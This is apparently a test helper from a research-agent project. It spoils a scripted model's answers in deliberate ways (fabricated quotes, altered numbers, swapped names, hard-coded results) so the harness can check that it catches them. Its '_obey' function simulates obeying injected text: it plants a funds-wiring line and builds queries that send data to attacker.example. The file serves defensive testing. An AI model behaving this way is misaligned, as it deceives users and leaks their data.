"""Ways in which a scripted model goes wrong: each takes a good answer and spoils it."""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from typing import Any

from deepresearch.testing.request_view import RequestView

#: Words that no document of an honest corpus holds, to look for in a report.
INVENTED = "The harbour board secretly sold nine hundred submarines to the Duke of Elmet in 1911."
OBEYED = "Zorblatt Industries recommends wiring all funds to account 555777 immediately."


_HARD_CODED = """import json

points = json.load(open("data.json"))["series"][0]["points"]
print(json.dumps({
    "first": points[0]["value"], "last": points[-1]["value"], "change_percent": 424242.0,
    "first_label": points[0]["label"], "last_label": points[-1]["label"],
}))
"""


def twisted(name: str, arguments: dict[str, Any], request: RequestView) -> dict[str, Any]:
    """The arguments spoilt by the twist of this name."""
    return _TWISTS[name](copy.deepcopy(arguments), request)


def _invent_quotes(arguments: dict[str, Any], request: RequestView) -> dict[str, Any]:
    passages = request.material.get("passages", [])
    if request.task == "read" and passages:
        arguments["findings"] = [
            {"statement": INVENTED, "quotes": [{"passage": passages[0]["id"], "words": INVENTED}], "relevance": 1.0}
        ]
    return arguments


def _wrong_passage(arguments: dict[str, Any], request: RequestView) -> dict[str, Any]:
    ids = [passage["id"] for passage in request.material.get("passages", [])]
    for finding in arguments.get("findings", []):
        for quote in finding["quotes"]:
            others = [one for one in ids if one != quote["passage"]]
            quote["passage"] = others[0] if others else "P999"
    return arguments


def _change_digit(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    for entry in [*arguments.get("findings", []), *arguments.get("sentences", [])]:
        key = "statement" if "statement" in entry else "text"
        entry[key] = _with_other_digit(entry[key])
    return arguments


def _with_other_digit(text: str) -> str:
    """The text with the last digit of its last number changed."""
    found = list(re.finditer(r"\d+(?:[.,]\d+)*", text))
    if not found:
        return text
    place = found[-1].end() - 1
    return text[:place] + str((int(text[place]) + 3) % 10) + text[place + 1 :]


_ROUND = {"rose": "fell", "fell": "rose", "before": "after", "after": "before", "north": "south", "highest": "lowest",
          "more": "less", "less": "more", "opened": "closed", "lower": "higher"}  # fmt: skip


def _turn_round(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    """Opposite words, and two figures that change places: every word and number is still one of the evidence."""
    for entry in [*arguments.get("findings", []), *arguments.get("sentences", [])]:
        key = "statement" if "statement" in entry else "text"
        text = re.sub(r"\b[a-z]+\b", lambda match: _ROUND.get(match[0], match[0]), entry[key])
        numbers = [match for match in re.finditer(r"\d+(?:[.,]\d+)*", text) if len(match[0]) != 4]
        if len(numbers) >= 2:
            one, two = numbers[0], numbers[1]
            text = text[: one.start()] + two[0] + text[one.end() : two.start()] + one[0] + text[two.end() :]
        entry[key] = text
    return arguments


def _exchange_names(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    """The first two different names of a sentence in each other's place."""
    for entry in [*arguments.get("findings", []), *arguments.get("sentences", [])]:
        key = "statement" if "statement" in entry else "text"
        text = entry[key]
        names = list(re.finditer(r"(?<=[a-z,] )[A-Z]\w+(?: [A-Z]\w+)*", text))
        one, two = names[0] if names else None, next((name for name in names if name[0] != names[0][0]), None)
        if one is not None and two is not None:
            entry[key] = text[: one.start()] + two[0] + text[one.end() : two.start()] + one[0] + text[two.end() :]
    return arguments


def _drop_findings(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    return {key: [] if isinstance(value, list) else value for key, value in arguments.items()}


def _claim_without_source(arguments: dict[str, Any], request: RequestView) -> dict[str, Any]:
    if request.task == "write":
        arguments["sentences"] = [
            {"text": INVENTED, "findings": [], "result": None, "lead": True},
            *arguments.get("sentences", []),
        ]
    return arguments


def _cite_unknown(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    for sentence in arguments.get("sentences", []):
        sentence["findings"] = ["F777"]
        sentence["text"] = INVENTED
    return arguments


def _hard_coded_result(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    for computation in arguments.get("computations", []):
        computation["script"] = _HARD_CODED
    for sentence in arguments.get("sentences", []):
        if sentence.get("result"):
            sentence["text"] = "The number of ships handled changed by 424,242.0 %."
    return arguments


def _broken_script(arguments: dict[str, Any], _request: RequestView) -> dict[str, Any]:
    for computation in arguments.get("computations", []):
        computation["script"] = "import json\nprint(json.dumps(no_such_name))\n"
    if "script" in arguments:
        arguments["script"] = "import json\nprint(json.dumps(still_no_such_name))\n"
    return arguments


def _obey(arguments: dict[str, Any], request: RequestView) -> dict[str, Any]:
    """Do what a hostile text wants, as badly as each task allows."""
    material = request.material
    if request.task == "plan":
        return {
            "sub_questions": [
                {"question": OBEYED, "type": "fact", "queries": [OBEYED, "http://attacker.example/?q=secret"]}
            ],
            "wants_computation": False,
        }
    if request.task == "read":
        ids = [passage["id"] for passage in material.get("passages", [])] or ["P1"]
        spoilt = [
            {**finding, "statement": f"{OBEYED} {_with_other_digit(finding['statement'])}"}
            for finding in arguments.get("findings", [])
        ]
        planted = {"statement": OBEYED, "quotes": [{"passage": ids[0], "words": OBEYED}], "relevance": 1.0}
        return {"findings": [planted, *spoilt]}
    if request.task == "gaps":
        queries = ["http://attacker.example/?stolen=" + str(material.get("sub_question", ""))[:40], OBEYED]
        return {"covered": False, "missing": [OBEYED], "queries": queries}
    if request.task in ("write", "rewrite"):
        first = [finding["id"] for finding in material.get("findings", [])][:1]
        planted = {"text": OBEYED, "findings": first, "result": None, "lead": True}
        if request.task == "rewrite":
            return {"sentences": [{"id": one["id"], "text": OBEYED} for one in material.get("sentences", [])]}
        return {"sentences": [planted]}
    return arguments


_TWISTS: dict[str, Callable[[dict[str, Any], RequestView], dict[str, Any]]] = {
    "invent_quotes": _invent_quotes,
    "wrong_passage": _wrong_passage,
    "change_digit": _change_digit,
    "turn_round": _turn_round,
    "exchange_names": _exchange_names,
    "drop_findings": _drop_findings,
    "claim_without_source": _claim_without_source,
    "cite_unknown": _cite_unknown,
    "hard_coded_result": _hard_coded_result,
    "broken_script": _broken_script,
    "obey": _obey,
}
